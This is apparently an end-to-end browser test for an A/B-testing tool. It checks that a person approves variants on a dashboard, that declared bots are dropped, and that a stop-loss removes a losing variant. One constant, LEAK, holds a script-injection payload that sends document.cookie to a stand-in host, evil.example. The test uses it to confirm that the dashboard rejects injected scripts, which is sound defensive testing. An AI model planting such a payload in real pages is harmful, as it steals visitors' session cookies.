"""The gate, the bot filter and the stop-loss in a real browser: the visitors' side and the person's.

Skipped where there is no Chromium, as the dashboard's tests are.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from playwright.sync_api import expect, sync_playwright

from node.live.bots import DECLARED
from tests.node.live.conftest import Test

CHROMIUM = os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.sockets,
    pytest.mark.skipif(CHROMIUM is None, reason="the page in a browser: apt install chromium"),
]
SECONDS = 20  # for what a busy machine shows late
PERSON = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"
LEAK = '<script>window.taken = true; fetch("https://evil.example/" + document.cookie)</script>'


@contextmanager
def running(*command: str) -> Iterator[str]:
    """The address that a `live` command prints, run as a person runs it."""
    whole = [sys.executable, "-m", "node", "live", *command, "--home", "/nonexistent"]
    with subprocess.Popen(whole, stdout=subprocess.PIPE, text=True) as process:
        try:
            assert process.stdout is not None
            yield process.stdout.readline().split()[-1]
        finally:
            process.terminate()


def test_a_person_approves_people_are_counted_and_what_is_worse_leaves(garden: Test) -> None:
    garden.set(("minimum_visitors = 200", "minimum_visitors = 50"))
    garden.edit("benefit-first", "</body>", LEAK + "</body>")
    root = str(garden.root)
    expect.set_options(timeout=1000 * SECONDS)
    with (
        running("serve", root) as site,
        running("dashboard", root) as desk,
        sync_playwright() as driver,
        driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"]) as chromium,
    ):
        person = chromium.new_page()
        trouble: list[str] = []
        person.on("pageerror", lambda error: trouble.append(str(error)))
        person.goto(desk)

        assert chromium.new_context(user_agent=PERSON).new_page().goto(site).status == 503  # nothing is approved
        expect(person.locator("#variant-benefit-first")).to_contain_text("<script> is not allowed")
        expect(person.get_by_role("button", name="Approve benefit-first")).to_be_disabled()
        preview = person.frame_locator("#variant-one-step iframe")
        expect(preview.get_by_text("Send me the letter")).to_be_visible()
        for name in ("control", "one-step"):
            person.get_by_role("button", name=f"Approve {name}").click()
            expect(person.get_by_role("button", name=f"Withdraw {name}")).to_be_visible()

        visitor = chromium.new_context(user_agent=PERSON).new_page()
        visitor.goto(site)
        title = visitor.inner_text("h1")
        link = visitor.get_attribute("a.go", "href")
        assert title == "A letter on gardening, once a month"
        assert not visitor.url.endswith("-")
        visitor.goto(site)
        assert visitor.get_attribute("a.go", "href") == link  # the same visitor, the same variant

        robot = chromium.new_page()  # says that it is headless
        assert DECLARED.search(robot.evaluate("navigator.userAgent"))
        robot.goto(site)
        assert robot.get_attribute("a.go", "href") == "/go/signup/-"
        expect(person.locator("#dropped")).to_contain_text("declared bot")
        expect(person.locator("#answers")).to_contain_text("unsubscribe 0, at the control 0")

        for arm in garden.store.arms():
            garden.crowd(arm.id, 200, 120 if arm.is_control else 20)
        expect(person.locator("#stopped")).to_contain_text("one-step was taken out of traffic, stop-loss")
        expect(person.locator("#variant-one-step h3")).to_have_text("one-step: stopped: stop-loss")
        expect(person.locator("#measured")).to_have_text(
            "observed, this audience only; never re-run, never adopted unasked"
        )
        fresh = chromium.new_context(user_agent=PERSON).new_page()
        fresh.goto(site)
        assert fresh.inner_text("a.go") == "Subscribe"
        assert trouble == []
